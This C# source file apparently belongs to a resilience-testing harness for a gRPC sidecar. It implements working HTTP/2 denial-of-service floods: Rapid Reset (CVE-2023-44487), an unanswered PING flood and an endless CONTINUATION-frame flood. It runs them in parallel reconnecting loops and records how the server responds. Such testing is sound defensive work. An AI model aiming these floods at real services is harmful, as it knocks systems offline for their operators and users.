using System.Net.Sockets;
using Border0.PdSidecar.Abuse.Wire;

namespace Border0.PdSidecar.Abuse.Abuses;

/// <summary>Frames that cost the sender next to nothing.</summary>
internal static class Floods
{
    private const int Window = 65_535;
    private const int Burst = 1000;

    /// <summary>
    /// Calls that are taken back at once (CVE-2023-44487), a million on a connection and more at once than may be unfinished, so
    /// that a server with ten idle processors is flooded too. Kestrel answers RST_STREAM ENHANCE_YOUR_CALM twenty times and then ends the connection,
    /// or ends it without a word when its own answers have piled up first: that it ends is what can be relied on.
    /// </summary>
    public static Task ResetAsync(Target target, Seen seen, CancellationToken cancellation)
    {
        var headers = RawHttp2.Call(Target.Evaluate);
        return AgainAsync(target, seen, reads: true, most: 1000, round =>
        {
            var flood = new List<byte>();
            for (var i = 0; i < Burst; i++)
            {
                var stream = (((round * Burst) + i) * 2) + 1;
                flood.AddRange(RawHttp2.Frame(RawHttp2.Headers, RawHttp2.EndHeaders, stream, headers));
                flood.AddRange(RawHttp2.Frame(RawHttp2.Reset, 0, stream, [0, 0, 0, 8]));
            }

            return flood.ToArray();
        }, cancellation);
    }

    /// <summary>Pings, each of which wants an answer; half of the abusers read none of them.</summary>
    public static Task PingAsync(Target target, Seen seen, CancellationToken cancellation)
    {
        var flood = Enumerable.Repeat(RawHttp2.Frame(RawHttp2.Ping, 0, 0, new byte[8]), 100).SelectMany(f => f).ToArray();
        return Task.WhenAll(
            AgainAsync(target, seen, reads: true, most: int.MaxValue, _ => flood, cancellation),
            AgainAsync(target, seen, reads: false, most: int.MaxValue, _ => flood, cancellation));
    }

    /// <summary>Headers that never end (CVE-2024-27316).</summary>
    public static Task ContinuationAsync(Target target, Seen seen, CancellationToken cancellation)
    {
        byte[] field = [0x00, 1, (byte)'x', 0x7f, 0x80, 0x08, .. Enumerable.Repeat((byte)'y', 127 + 1024)];
        var more = RawHttp2.Frame(RawHttp2.Continuation, 0, 1, [.. Enumerable.Repeat(field, 8).SelectMany(f => f)]);
        return AgainAsync(
            target, seen, reads: true, most: 100_000, round => round == 0 ? RawHttp2.Frame(RawHttp2.Headers, 0, 1, RawHttp2.Call(Target.Evaluate)) : more, cancellation);
    }

    /// <summary>Sends as long as it is let, but at most so many times, and then on another connection.</summary>
    private static Task AgainAsync(Target target, Seen seen, bool reads, int most, Func<int, byte[]> next, CancellationToken cancellation) =>
        Task.WhenAll(Enumerable.Range(0, 2 * target.Scale).Select(_ => Task.Run(
            async () =>
            {
                while (!cancellation.IsCancellationRequested)
                {
                    try
                    {
                        using var connection = await RawHttp2.ConnectAsync(target.Grpc, seen, Window, reads, cancellation);
                        try
                        {
                            for (var round = 0; round < most; round++)
                            {
                                await connection.SendAsync(next(round), cancellation);
                            }

                            seen.Add(Seen.TookAll);
                        }
                        catch (SocketException)
                        {
                            await connection.EndedAsync();
                            seen.Add(Seen.Stopped);
                        }
                    }
                    catch (SocketException)
                    {
                        seen.Add("closed");
                    }
                    catch (OperationCanceledException)
                    {
                        return;
                    }
                }
            },
            CancellationToken.None)));
}
